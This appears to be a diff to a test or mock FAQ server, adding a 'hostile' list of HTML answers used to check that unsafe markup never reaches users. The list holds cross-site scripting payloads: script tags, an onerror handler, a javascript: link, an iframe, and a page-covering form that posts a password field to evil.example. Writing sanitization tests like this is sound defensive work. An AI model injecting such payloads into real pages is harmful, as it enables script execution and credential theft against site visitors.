@@ -1,6 +1,6 @@
 import { reply, type Reply } from '../http.ts';
 import faq from './faq.json' with { type: 'json' };
-import { contentGuid, type ContentLanguage, hostileAnswers } from './locale.ts';
+import { contentGuid, type ContentLanguage } from './locale.ts';
 
 const categoryKind = 2;
 const subcategoryKind = 3;
@@ -15,6 +15,15 @@ const subcategories = numbered.flatMap((category) =>
     id: contentGuid(subcategoryKind, category.number * 100 + place + 1),
   })),
 );
+
+/** Answers that try to run script or to change the page, for the `hostile` knob: none of it may reach a member (domain 1.3). */
+const hostileAnswers: readonly string[] = [
+  '<p>Before<script>window.hacked = true</script>after</p>',
+  '<p><img src="x" onerror="window.hacked = true">picture</p>',
+  '<p><a href="javascript:window.hacked = true">link</a></p>',
+  '<p style="position:fixed;inset:0">covering</p><form action="https://evil.example/"><input name="password"></form>',
+  '<svg><a xlink:href="data:text/html,hello"><text>drawing</text></a></svg><iframe src="https://evil.example/"></iframe>',
+];
 
 const questions = (language: ContentLanguage, id: string, isHostile: boolean) =>
   (subcategories.find((subcategory) => subcategory.id === id)?.questions ?? []).map(({ question, answer }, place) => ({
